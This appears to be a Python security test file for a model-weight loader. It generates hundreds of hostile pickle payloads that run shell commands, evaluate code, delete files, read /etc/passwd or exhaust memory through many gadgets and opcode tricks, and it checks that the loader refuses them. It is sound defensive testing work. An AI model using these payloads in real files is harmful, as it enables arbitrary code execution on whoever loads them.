"""Pickles that ask to run something: by every known gadget, and in every way that pickle has.

Each would make a file `owned` in the working folder, or do other harm, if something in it ran.
"""

import pickle
import struct
from collections.abc import Callable
from typing import Any

from tests.attacks.attack import Attacks, Content, all_harmless, all_refused
from tests.attacks.opcodes import opcodes_of, pickled
from tests.files.malformed_weight_files import ARRAY, GOOD_ARRAY, START, array, dtype, short_bytes
from tests.files.weight_formats.torch_writer import Call, Global

COMMAND = "touch owned"
CODE = "open('owned', 'w').write('')"
NESTED = b"cos\nsystem\n(S'touch owned'\ntR."
_SHORT_TEXT, _STACK_GLOBAL = b"\x8c", b"\x93"

Gadget = tuple[str, str, tuple[Any, ...]]

_SHELLS: list[Gadget] = [
    ("os", "system", (COMMAND,)),
    ("os", "popen", (COMMAND,)),
    ("os", "execl", ("/bin/touch", "touch", "owned")),
    ("os", "spawnlp", (0, "touch", "touch", "owned")),
    ("os", "posix_spawn", ("/bin/touch", ["touch", "owned"], {})),
    ("os", "startfile", ("owned",)),
    ("os", "remove", ("canary",)),
    ("os", "mkdir", ("owned",)),
    ("os", "_exit", (0,)),
    ("os", "abort", ()),
    ("os", "kill", (1, 9)),
    ("posix", "system", (COMMAND,)),
    ("posix", "_exit", (0,)),
    ("nt", "system", (COMMAND,)),
    ("subprocess", "Popen", (["touch", "owned"],)),
    ("subprocess", "run", (["touch", "owned"],)),
    ("subprocess", "call", (["touch", "owned"],)),
    ("subprocess", "check_output", (["touch", "owned"],)),
    ("subprocess", "getoutput", (COMMAND,)),
    ("_posixsubprocess", "fork_exec", ()),
    ("commands", "getoutput", (COMMAND,)),
    ("popen2", "popen2", (COMMAND,)),
    ("pty", "spawn", (["touch", "owned"],)),
    ("platform", "popen", (COMMAND,)),
    ("asyncio.subprocess", "create_subprocess_shell", (COMMAND,)),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start", (None, COMMAND)),
    ("multiprocessing.util", "spawnv_passfds", ("/bin/touch", ["touch", "owned"], [])),
    ("webbrowser", "GenericBrowser", ("touch %s",)),
    ("webbrowser", "open", ("file:///etc/passwd",)),
    ("antigravity", "webbrowser.open", ("http://localhost",)),
    ("distutils.spawn", "spawn", (["touch", "owned"],)),
    ("setuptools.sandbox", "run_setup", ("setup.py", [])),
    ("setuptools._distutils.file_util", "write_file", ("owned", [""])),
    ("pip._internal", "main", (["install", "evil"],)),
    ("ensurepip", "bootstrap", ()),
    ("venv", "create", ("owned",)),
    ("idlelib.run", "main", ()),
    ("idlelib.pyshell", "ModifiedInterpreter.runcode", (None, CODE)),
    ("turtle", "Screen", ()),
    ("pexpect", "spawn", (COMMAND,)),
    ("sh", "Command", ("touch",)),
    ("fabric", "Connection", ("localhost",)),
    ("paramiko", "SSHClient", ()),
]
_EVALUATORS: list[Gadget] = [
    ("builtins", "eval", (CODE,)),
    ("builtins", "exec", (CODE,)),
    ("builtins", "compile", (CODE, "x", "exec")),
    ("builtins", "__import__", ("os",)),
    ("builtins", "getattr", (Global("os", "path"), "os")),
    ("builtins", "setattr", (Global("__main__", "A"), "x", 1)),
    ("builtins", "open", ("owned", "w")),
    ("builtins", "breakpoint", ()),
    ("builtins", "input", ()),
    ("builtins", "exit", ()),
    ("builtins", "map", (Global("os", "system"), [COMMAND])),
    ("builtins", "filter", (Global("os", "system"), [COMMAND])),
    ("builtins", "globals", ()),
    ("builtins", "type", ("A", (), {})),
    ("builtins", "memoryview", (b"",)),
    ("__builtin__", "eval", (CODE,)),
    ("__builtin__", "execfile", ("/etc/passwd",)),
    ("__builtin__", "apply", (Global("os", "system"), (COMMAND,))),
    ("__builtin__", "file", ("owned", "w")),
    ("operator", "attrgetter", ("system",)),
    ("operator", "methodcaller", ("system", COMMAND)),
    ("operator", "itemgetter", ("os",)),
    ("_operator", "attrgetter", ("system",)),
    ("functools", "partial", (Global("os", "system"), COMMAND)),
    ("functools", "reduce", (Global("os", "system"), [COMMAND])),
    ("itertools", "starmap", (Global("os", "system"), [(COMMAND,)])),
    ("types", "FunctionType", (None, {})),
    ("types", "CodeType", (0, 0, 0, 0, 0)),
    ("types", "MethodType", (Global("os", "system"), COMMAND)),
    ("code", "interact", ()),
    ("code", "InteractiveInterpreter", ()),
    ("codeop", "compile_command", (CODE,)),
    ("runpy", "run_path", ("/etc/passwd",)),
    ("runpy", "_run_code", (CODE, {})),
    ("pickle", "loads", (NESTED,)),
    ("pickle", "load", (None,)),
    ("_pickle", "loads", (NESTED,)),
    ("pickle", "Unpickler", (None,)),
    ("cPickle", "loads", (NESTED,)),
    ("shelve", "open", ("owned",)),
    ("dill", "loads", (NESTED,)),
    ("dill._dill", "_create_function", (None, {})),
    ("cloudpickle.cloudpickle", "_make_function", (None, {}, None, None, None)),
    ("cloudpickle", "loads", (NESTED,)),
    ("marshal", "loads", (b"c\0\0\0\0",)),
    ("importlib", "import_module", ("os",)),
    ("importlib.machinery", "SourceFileLoader", ("x", "/etc/passwd")),
    ("imp", "load_source", ("x", "/etc/passwd")),
    ("zipimport", "zipimporter", ("x.zip",)),
    ("pkgutil", "resolve_name", ("os:system",)),
    ("pydoc", "pipepager", ("", COMMAND)),
    ("pydoc", "locate", ("os.system",)),
    ("ctypes", "CDLL", ("libc.so.6",)),
    ("ctypes", "string_at", (0,)),
    ("ctypes", "memset", (0, 0, 8)),
    ("_ctypes", "dlopen", ("libc.so.6", 0)),
    ("timeit", "timeit", (CODE,)),
    ("timeit", "main", (["-n1", CODE],)),
    ("trace", "Trace", ()),
    ("cProfile", "run", (CODE,)),
    ("profile", "run", (CODE,)),
    ("bdb", "Bdb.run", (None, CODE)),
    ("pdb", "run", (CODE,)),
    ("doctest", "debug_script", (CODE,)),
    ("test.support.script_helper", "assert_python_ok", ("-c", CODE)),
    ("unittest.mock", "_importer", ("os.system",)),
    ("lib2to3.pgen2.pgen", "generate_grammar", ("owned",)),
    ("logging.config", "_resolve", ("os.system",)),
    ("logging.config", "fileConfig", ("/etc/passwd",)),
    ("logging", "FileHandler", ("owned",)),
    ("gc", "get_objects", ()),
    ("sys", "exit", (0,)),
    ("sys", "setrecursionlimit", (1 << 30,)),
    ("sys", "modules", ()),
    ("atexit", "register", (Global("os", "system"), COMMAND)),
    ("signal", "raise_signal", (9,)),
    ("faulthandler", "_sigsegv", ()),
    ("threading", "Timer", (0, Global("os", "system"))),
    ("inspect", "getattr_static", (None, "")),
    ("weakref", "finalize", (Global("os", "system"), Global("os", "system"), COMMAND)),
    ("contextlib", "ExitStack", ()),
    ("site", "main", ()),
    ("rlcompleter", "Completer", ()),
    ("ast", "literal_eval", ("9**9**9",)),
]
_FILES_AND_NETS: list[Gadget] = [
    ("io", "open", ("owned", "w")),
    ("_io", "FileIO", ("owned", "w")),
    ("io", "open_code", ("/etc/passwd",)),
    ("codecs", "open", ("owned", "w")),
    ("fileinput", "FileInput", ("/etc/passwd",)),
    ("linecache", "getlines", ("/etc/passwd",)),
    ("pathlib", "Path.write_text", (None, "x")),
    ("pathlib", "Path.unlink", (None,)),
    ("pathlib._local", "Path.touch", (None,)),
    ("shutil", "rmtree", (".",)),
    ("shutil", "copyfile", ("/etc/passwd", "owned")),
    ("shutil", "unpack_archive", ("x.zip",)),
    ("tempfile", "mkdtemp", ("", "owned", ".")),
    ("tempfile", "NamedTemporaryFile", ()),
    ("zipfile", "ZipFile", ("owned", "w")),
    ("tarfile", "open", ("owned", "w")),
    ("sqlite3", "connect", ("owned",)),
    ("dbm", "open", ("owned", "c")),
    ("mmap", "mmap", (0, 8)),
    ("socket", "create_connection", (("127.0.0.1", 9),)),
    ("_socket", "socket", ()),
    ("ssl", "get_server_certificate", (("127.0.0.1", 9),)),
    ("urllib.request", "urlopen", ("file:///etc/passwd",)),
    ("urllib", "urlopen", ("file:///etc/passwd",)),
    ("http.client", "HTTPConnection", ("127.0.0.1",)),
    ("http.server", "test", ()),
    ("requests", "get", ("http://127.0.0.1",)),
    ("ftplib", "FTP", ("127.0.0.1",)),
    ("smtplib", "SMTP", ("127.0.0.1",)),
    ("telnetlib", "Telnet", ("127.0.0.1",)),
    ("xmlrpc.client", "ServerProxy", ("http://127.0.0.1",)),
    ("multiprocessing.connection", "Client", (("127.0.0.1", 9),)),
    ("multiprocessing.managers", "RebuildProxy", (None, None, "", {})),
    ("concurrent.futures", "ProcessPoolExecutor", ()),
    ("asyncio", "run", (None,)),
    ("xml.etree.ElementTree", "parse", ("/etc/passwd",)),
    ("getpass", "getpass", ()),
    ("resource", "setrlimit", (0, (0, 0))),
    ("winreg", "CreateKey", (0, "owned")),
    ("msvcrt", "getch", ()),
]
_LIBRARIES: list[Gadget] = [
    ("numpy", "load", ("/etc/passwd",)),
    ("numpy", "save", ("owned", 0)),
    ("numpy", "savetxt", ("owned", [0])),
    ("numpy", "fromfile", ("/etc/passwd",)),
    ("numpy", "genfromtxt", ("/etc/passwd",)),
    ("numpy", "memmap", ("owned", "u1", "w+", 0, (8,))),
    ("numpy", "DataSource", (".",)),
    ("numpy", "frombuffer", (b"",)),
    ("numpy", "vectorize", (Global("os", "system"),)),
    ("numpy", "apply_along_axis", (Global("os", "system"), 0, [COMMAND])),
    ("numpy", "ones", ((1 << 40,),)),
    ("numpy", "ndarray.tofile", (None, "owned")),
    ("numpy.core", "multiarray.fromfile", ("/etc/passwd",)),
    ("numpy.core.multiarray", "fromstring", ("", "O")),
    ("numpy.lib.npyio", "load", ("/etc/passwd",)),
    ("numpy.lib.utils", "safe_eval", (CODE,)),
    ("numpy.lib.stride_tricks", "as_strided", (None, (1 << 30,))),
    ("numpy.testing", "measure", (CODE,)),
    ("numpy.testing._private.utils", "runstring", (CODE, {})),
    ("numpy.testing._private.utils", "rundocs", ("/etc/passwd",)),
    ("numpy.f2py", "compile", ("",)),
    ("numpy.f2py.crackfortran", "getlincoef", (CODE, {})),
    ("numpy.f2py.crackfortran", "myeval", (CODE,)),
    ("numpy.f2py.diagnose", "run_command", (COMMAND,)),
    ("numpy.distutils.exec_command", "exec_command", (COMMAND,)),
    ("numpy.ctypeslib", "load_library", ("libc", ".")),
    ("numpy.ma.core", "_mareconstruct", (Global("os", "system"), COMMAND, (0,), "b")),
    ("numpy.core._internal", "_ctypes", (None,)),
    ("numpy.rec", "fromfile", ("/etc/passwd",)),
    ("numpy.core", "_ufunc_reconstruct", ("os", "system")),
    ("numpy.random", "os.system", (COMMAND,)),
    ("scipy.io", "loadmat", ("/etc/passwd",)),
    ("scipy._lib._util", "_FunctionWrapper", (Global("os", "system"), [])),
    ("torch.storage", "_load_from_bytes", (NESTED,)),
    ("torch", "load", ("/etc/passwd",)),
    ("torch.serialization", "load", ("/etc/passwd",)),
    ("torch.hub", "load", ("evil/evil", "x")),
    ("torch.jit", "load", ("/etc/passwd",)),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", (CODE, {}, {})),
    ("torch.utils.cpp_extension", "load", ("x", [])),
    ("torch.utils.bottleneck.__main__", "run_cprofile", (CODE, {})),
    ("torch.utils.collect_env", "run", (COMMAND,)),
    ("torch.utils._config_module", "ConfigModule.load_config", (None, NESTED)),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", (CODE,)),
    ("torch._dynamo.guards", "GuardBuilder.get", (None, CODE)),
    ("torch._inductor.codecache", "compile_file", ("x",)),
    ("torch.distributed.rpc", "rpc_sync", ("x", None)),
    ("joblib", "load", ("/etc/passwd",)),
    ("joblib.numpy_pickle", "load", ("/etc/passwd",)),
    ("joblib.externals.loky", "get_reusable_executor", ()),
    ("joblib.externals.cloudpickle", "loads", (NESTED,)),
    ("sklearn.externals.joblib", "load", ("/etc/passwd",)),
    ("sklearn.utils._testing", "create_memmap_backed_data", (0,)),
    ("pandas", "read_pickle", ("/etc/passwd",)),
    ("pandas.io.common", "get_handle", ("owned", "w")),
    ("pandas.core.computation.eval", "eval", (CODE,)),
    ("keras.src.saving.serialization_lib", "deserialize_keras_object", ({},)),
    ("tensorflow.python.ops.io_ops", "write_file", ("owned", "x")),
    ("yaml", "unsafe_load", ("!!python/object/apply:os.system ['touch owned']",)),
    ("jax._src.array", "_reconstruct_array", (Global("os", "system"), (COMMAND,), None, None)),
    ("cffi", "FFI", ()),
    ("numba.core.serialize", "_unpickle__CustomPickled", (NESTED,)),
    ("IPython.core.interactiveshell", "InteractiveShell.system", (None, COMMAND)),
    ("nnviz.cli", "main", (["train"],)),
    ("nnviz.files.atomic", "write_atomically", ("owned", b"")),
    ("__main__", "os.system", (COMMAND,)),
]
_GADGETS: dict[str, list[Gadget]] = {
    "shell": _SHELLS,
    "evaluator": _EVALUATORS,
    "file_or_net": _FILES_AND_NETS,
    "library": _LIBRARIES,
}


def _in_protocol_4(module: str, name: str) -> bytes:
    def short(word: str) -> bytes:
        raw = word.encode("utf-8", "surrogatepass")
        return _SHORT_TEXT + bytes([len(raw)]) + raw

    return b"\x80\x04" + short(module) + short(name) + _STACK_GLOBAL


def _by_reduce(module: str, name: str, arguments: tuple[Any, ...]) -> bytes:
    return pickled(Call(Global(module, name), arguments))


def _by_stack_global(module: str, name: str, arguments: tuple[Any, ...]) -> bytes:
    return _in_protocol_4(module, name) + opcodes_of(arguments) + b"R."


def _by_inst(module: str, name: str, arguments: tuple[Any, ...]) -> bytes:
    inside = b"".join(map(opcodes_of, arguments))
    return START + b"(" + inside + f"i{module}\n{name}\n.".encode()


def _by_obj(module: str, name: str, arguments: tuple[Any, ...]) -> bytes:
    inside = b"".join(map(opcodes_of, arguments))
    return START + b"(" + f"c{module}\n{name}\n".encode() + inside + b"o."


def _by_newobj(module: str, name: str, arguments: tuple[Any, ...]) -> bytes:
    return START + f"c{module}\n{name}\n".encode() + opcodes_of(arguments) + b"\x81."


def _by_newobj_ex(module: str, name: str, arguments: tuple[Any, ...]) -> bytes:
    return _in_protocol_4(module, name) + opcodes_of(arguments) + b"}\x92."


def _beside_arrays(module: str, name: str, arguments: tuple[Any, ...]) -> bytes:
    """Made and dropped again, before good weights."""
    made = opcodes_of(Call(Global(module, name), arguments))
    return START + made + b"0}" + opcodes_of("W1") + GOOD_ARRAY + b"s."


_WAYS: list[Callable[[str, str, tuple[Any, ...]], bytes]] = [
    *(_by_reduce, _by_stack_global, _by_reduce, _by_inst, _by_stack_global, _by_obj),
    *(_by_reduce, _by_newobj, _by_newobj_ex, _beside_arrays),
]


def _by_gadgets() -> dict[str, Content]:
    attacks: dict[str, Content] = {}
    for family, gadgets in _GADGETS.items():
        for i, (module, name, arguments) in enumerate(gadgets):
            # numpy's and torch's own names make something of no call: those must call.
            way = _WAYS[i % len(_WAYS)] if family != "library" else _WAYS[i % 3]
            attacks[f"{family}_{module}.{name}_{way.__name__.strip('_')}"] = way(
                module, name, arguments
            )
    return attacks


_SYSTEM = b"cos\nsystem\n"
_ARGUMENT = opcodes_of(COMMAND) + b"\x85"
_OBJECT = b"c__main__\nA\n)\x81"


def _named(module: str, name: str) -> bytes:
    return _in_protocol_4(module, name) + _ARGUMENT + b"R."


def _every_way() -> dict[str, Content]:
    """os.system alone, in each way that a name, or a call, can be written."""
    setstate = opcodes_of("__setstate__") + _SYSTEM
    return {
        **{way.__name__.strip("_"): way("os", "system", (COMMAND,)) for way in _WAYS},
        "protocol_0": b"cos\nsystem\n(S'touch owned'\ntR.",
        "protocol_1": b"cos\nsystem\n(U\x0btouch ownedtR.",
        "protocol_3": b"\x80\x03" + _SYSTEM + _ARGUMENT + b"R.",
        "protocol_5_with_global": b"\x80\x05\x95" + struct.pack("<Q", 40) + _SYSTEM + b"." * 60,
        "names_from_the_memo": b"\x80\x04\x8c\x06system\x94\x8c\x02os\x94h\x01h\x00\x93"
        + (_ARGUMENT + b"R."),
        "name_swapped_in_the_memo": b"\x80\x02X\x01\0\0\0aq\x00"
        + (b"0X\x02\0\0\0osq\x00h\x00\x8c\x06system\x93" + _ARGUMENT + b"R."),
        "callee_from_the_memo": START + _SYSTEM + b"q\x070h\x07" + _ARGUMENT + b"R.",
        "arguments_from_the_memo": START + _SYSTEM + _ARGUMENT + b"q\x01\x30h\x01R.",
        "result_dropped": START
        + _SYSTEM
        + _ARGUMENT
        + b"R0}"
        + opcodes_of("W")
        + GOOD_ARRAY
        + b"s.",
        "result_dropped_with_its_mark": START
        + b"("
        + _SYSTEM
        + _ARGUMENT
        + b"R1"
        + GOOD_ARRAY
        + b".",
        "only_named_and_dropped": START + _SYSTEM + b"0" + GOOD_ARRAY + b".",
        "only_named_as_a_key": START + b"}" + _SYSTEM + GOOD_ARRAY + b"s.",
        "only_named_in_the_memo": START + b"(" + _SYSTEM + b"q\x001" + GOOD_ARRAY + b".",
        "by_build_of_setstate": START
        + _OBJECT
        + b"}"
        + setstate
        + b"sb"
        + opcodes_of(COMMAND)
        + b"b.",
        "by_build_of_slots": START + _OBJECT + b"N}" + setstate + b"s\x86b.",
        "by_build_of_a_class": START + b"c__main__\nA\n}" + setstate + b"sb.",
        "by_build_of_a_dict": START + b"}" + _SYSTEM + b"b.",
        "by_build_of_dunder_class": START
        + _OBJECT
        + b"}"
        + opcodes_of("__class__")
        + _SYSTEM
        + b"sb.",
        "by_build_of_reduce": START + _OBJECT + b"}" + opcodes_of("__reduce__") + _SYSTEM + b"sb.",
        "by_setitem_of_a_name": START + b"c__main__\nA\n" + opcodes_of("x") + _SYSTEM + b"s.",
        "by_append_to_a_name": START + b"c__main__\nA\n" + _SYSTEM + b"a.",
        "by_extension_1": START + b"\x82\x01" + _ARGUMENT + b"R.",
        "by_extension_2": START + b"\x83\x01\x00" + _ARGUMENT + b"R.",
        "by_extension_4": START + b"\x84\x01\x00\x00\x00" + _ARGUMENT + b"R.",
        "by_extension_of_a_negative": START + b"\x84\xff\xff\xff\xff" + _ARGUMENT + b"R.",
        "by_persistent_line": START + b"Pos.system\n" + _ARGUMENT + b"R.",
        "by_persistent_value": START + _SYSTEM + b"Q" + _ARGUMENT + b"R.",
        "by_copyreg_newobj": START
        + b"ccopyreg\n__newobj__\n"
        + _SYSTEM
        + opcodes_of(COMMAND)
        + b"\x86R.",
        "by_copyreg_newobj_ex": START
        + b"ccopyreg\n__newobj_ex__\n"
        + _SYSTEM
        + _ARGUMENT
        + b"}\x87R.",
        "by_copyreg_reconstructor": START
        + b"ccopyreg\n_reconstructor\n"
        + _SYSTEM
        + b"cbuiltins\nobject\nN\x87R.",
        "by_copyreg_reconstructor_of_str": START
        + b"ccopyreg\n_reconstructor\n"
        + _SYSTEM
        + b"cbuiltins\nstr\n"
        + opcodes_of(COMMAND)
        + b"\x87R.",
        "by_copy_reg_of_python_2": START + b"ccopy_reg\n__newobj__\n" + _SYSTEM + b"\x85R.",
        "by_copyreg_dispatch": START + b"ccopyreg\ndispatch_table\n" + _SYSTEM + _SYSTEM + b"s.",
        "by_copyreg_constructor": START + b"ccopyreg\nconstructor\n" + _SYSTEM + b"\x85R.",
        "by_a_factory": START + b"ccollections\ndefaultdict\n" + _SYSTEM + b"\x85R.",
        "by_an_ordered_dict_of_a_map": START
        + b"ccollections\nOrderedDict\ncbuiltins\nmap\n"
        + _SYSTEM
        + b"]("
        + opcodes_of(COMMAND)
        + b"e\x86R\x85R.",
        "by_a_call_of_a_call": START
        + b"cbuiltins\ngetattr\ncbuiltins\n__import__\n"
        + opcodes_of(("os",))
        + b"R"
        + opcodes_of("system")
        + b"\x86R"
        + _ARGUMENT
        + b"R.",
        "by_a_call_of_an_object": START + _OBJECT + _ARGUMENT + b"R.",
        "by_a_call_of_a_number": START + b"K\x01" + _ARGUMENT + b"R.",
        "by_a_call_of_an_array": START + GOOD_ARRAY + _ARGUMENT + b"R.",
        "by_a_call_of_a_text": START + opcodes_of("os.system") + _ARGUMENT + b"R.",
        "as_the_class_of_an_array": START + ARRAY.replace(b"cnumpy\nndarray\n", _SYSTEM) + b".",
        "as_the_type_of_an_array": START
        + array(b"K\x02\x85", _SYSTEM, short_bytes(bytes(8)))
        + b".",
        "as_the_shape_of_an_array": START
        + array(_SYSTEM, dtype("f4"), short_bytes(bytes(8)))
        + b".",
        "as_the_numbers_of_an_array": START + array(b"K\x02\x85", dtype("f4"), _SYSTEM) + b".",
        "as_an_item_of_an_array": START
        + array(b"K\x01\x85", dtype("O8", b""), b"](" + _SYSTEM + b"e")
        + b".",
        "as_a_number_type": START + b"cnumpy\ndtype\n" + _SYSTEM + b"\x85R.",
        "as_the_state_of_a_number_type": START + dtype("f4", _SYSTEM + b"b") + b".",
        "as_a_scalar": START
        + b"cnumpy.core.multiarray\nscalar\n"
        + _SYSTEM
        + short_bytes(b"")
        + b"\x86R.",
        "as_a_generator": START
        + b"cnumpy.random._pickle\n__generator_ctor\n"
        + _SYSTEM
        + b"\x85R.",
        "in_a_second_pickle": START + GOOD_ARRAY + b"." + NESTED,
        "in_a_third_pickle": (START + GOOD_ARRAY + b".") * 2 + NESTED,
        "behind_a_pickle_of_nothing": START + b"N." + NESTED,
        "in_a_set": START + b"\x8f(" + _SYSTEM + b"\x90.",
        "in_a_deep_list": START + b"]" * 30 + _SYSTEM + b"a" * 30 + b".",
        "nested_attribute_path": _named("os", "path.os.system"),
        "attribute_path_from_numpy": _named("numpy", "os.system"),
        "attribute_path_from_collections": _named("collections", "abc.sys.modules"),
        "attribute_path_from_collections_to_os": _named("collections", "_sys.modules"),
        "attribute_path_from_torch": _named("torch", "os.system"),
        "attribute_path_from_a_model": _named("model", "os.system"),
        "attribute_path_by_dunders": _named("builtins", "object.__subclasses__"),
        "attribute_path_by_globals": _named("model", "Net.__init__.__globals__"),
        "attribute_path_in_the_module": _named("os.path.os", "system"),
        "module_with_a_space": _named(" os", "system"),
        "module_with_a_space_behind": _named("os ", "system"),
        "module_with_a_line_end": _named("os\n", "system"),
        "module_with_a_tab": _named("\tos", "system"),
        "module_with_a_nul": _named("os\0x", "system"),
        "module_with_a_zero_width_space": _named("o\u200bs", "system"),
        "module_with_a_direction_mark": _named("\u202eso", "system"),
        "module_in_cyrillic": _named("\u043es", "system"),
        "module_in_full_width": _named("\uff4f\uff53", "system"),
        "module_in_capitals": _named("OS", "system"),
        "module_with_a_long_s": _named("o\u017f", "system"),
        "module_with_a_surrogate": _named("os\udc80", "system"),
        "module_with_a_dot_behind": _named("os.", "system"),
        "module_with_a_dot_before": _named(".os", "system"),
        "module_relative": _named("..os", "system"),
        "module_as_a_path": _named("/etc/os", "system"),
        "module_empty": _named("", "os.system"),
        "name_empty": _named("os", ""),
        "both_names_empty": _named("", ""),
        "name_of_dots": _named("...", "..."),
        "name_mangled": _named("model", "__import__('os').system('touch owned')"),
        "name_of_format": _named("model", "{0.__class__}%s"),
        "name_of_a_megabyte": b"\x80\x04" + opcodes_of("a" * (1 << 20)) + b"\x8c\x01b\x93.",
        "name_in_bytes": b"\x80\x04C\x02osC\x06system\x93" + _ARGUMENT + b"R.",
        "name_of_python_2_text": START + b"U\x02osU\x06system\x93" + _ARGUMENT + b"R.",
        "line_end_of_windows_in_the_name": b"cos\r\nsystem\r\n(S'touch owned'\r\ntR.",
        "nested_by_bytes": START
        + b"cpickle\nloads\n"
        + opcodes_of(Call(Global("_codecs", "encode"), (NESTED.decode(), "latin1")))
        + b"\x85R.",
        "in_utf_7": START + b"c_codecs\nencode\n" + opcodes_of(("+AG8Acw-", "utf-7")) + b"R.",
        "in_unicode_escape": START
        + b"c_codecs\ndecode\n"
        + opcodes_of((b"\\x6f", "unicode_escape"))
        + b"R.",
        "by_bytes_of_a_huge_number": START
        + opcodes_of(Call(Global("builtins", "bytes"), (1 << 40,)))
        + b".",
        "by_bytearray_of_a_huge_number": START
        + opcodes_of(Call(Global("builtins", "bytearray"), (1 << 40,)))
        + b".",
        "by_a_range_as_a_list": START
        + opcodes_of(
            Call(Global("builtins", "list"), (Call(Global("builtins", "range"), (1 << 40,)),))
        )
        + b".",
        "by_str_of_arguments": START
        + opcodes_of(Call(Global("builtins", "str"), (b"", "os")))
        + b".",
        "by_complex": START
        + opcodes_of(Call(Global("builtins", "complex"), ("1" * 100_000,)))
        + b".",
        "by_fractions": START
        + opcodes_of(Call(Global("fractions", "Fraction"), ("1e999999999",)))
        + b".",
        "by_decimal": START
        + opcodes_of(Call(Global("decimal", "Decimal"), ("1e999999999",)))
        + b".",
        "by_datetime": START
        + opcodes_of(Call(Global("datetime", "datetime"), (b"\xff" * 10,)))
        + b".",
        "by_an_enum": START + opcodes_of(Call(Global("enum", "Enum"), ("os", "system"))) + b".",
        "by_namedtuple": START
        + opcodes_of(Call(Global("collections", "namedtuple"), ("A", "b\nimport os")))
        + b".",
        "by_cython_unpickle": START
        + opcodes_of(Call(Global("os", "__pyx_unpickle_Enum"), (Global("os", "system"), 1, None)))
        + b".",
        "by_cython_unpickle_of_another": START
        + opcodes_of(Call(Global("model", "__pyx_unpickle_A"), (Global("os", "system"), 1, None)))
        + b".",
    }


def _objects_beside_arrays() -> dict[str, Content]:
    """Classes that are only named, beside good weights: shown as arrays, never made."""
    weights = opcodes_of("W1") + GOOD_ARRAY
    made = {
        "with_arguments": b"cevil\nPopen\n" + _ARGUMENT + b"R",
        "by_newobj": b"cevil\nPopen\n" + _ARGUMENT + b"\x81",
        "with_setstate": b"cevil\nNet\n)\x81}" + opcodes_of("__setstate__") + b"cevil\nRun\nsb",
        "with_a_path": b"cpathlib\nPosixPath\n" + opcodes_of("/etc/passwd") + b"\x85R",
        "with_a_random_generator": opcodes_of(
            Call(Global("numpy.random._pickle", "__randomstate_ctor"), ("MT19937",))
        ),
        "with_a_dunder_dict": b"cevil\nNet\n)\x81}" + opcodes_of("__dict__") + b"}sb",
        "with_dunder_reduce_ex": b"cevil\nNet\n)\x81}" + opcodes_of("__reduce_ex__") + b"K\x02sb",
        "with_a_property": b"cevil\nNet\n)\x81N}" + opcodes_of("params") + b"Ns\x86b",
    }
    return {
        name: START + b"}(" + opcodes_of("x") + opcodes + weights + b"u."
        for name, opcodes in made.items()
    }


def _nested() -> dict[str, Content]:
    """A pickle in the bytes of a pickle: data, as long as nobody loads it."""
    return {
        "a_pickle_as_bytes_beside_arrays": START
        + (b"}(" + opcodes_of("x") + short_bytes(NESTED) + opcodes_of("W1") + GOOD_ARRAY + b"u."),
        "a_pickle_as_text_behind_arrays": START + GOOD_ARRAY + b"." + pickle.dumps(NESTED.decode()),
    }


BY_GADGETS: Attacks = all_refused(_by_gadgets())
IN_EVERY_WAY: Attacks = all_refused(_every_way())
INERT: Attacks = all_harmless({**_objects_beside_arrays(), **_nested()})

SHARP = (
    *("protocol_0", "protocol_1", "protocol_3", "by_reduce", "by_stack_global", "by_inst"),
    *("by_obj", "names_from_the_memo", "name_swapped_in_the_memo", "callee_from_the_memo"),
    *("arguments_from_the_memo", "result_dropped", "result_dropped_with_its_mark"),
    *("by_a_call_of_a_call", "nested_attribute_path", "name_of_python_2_text"),
    "behind_a_pickle_of_nothing",
)
"""Ways in which pickle.load itself runs the command: the proof that the attacks are sharp."""
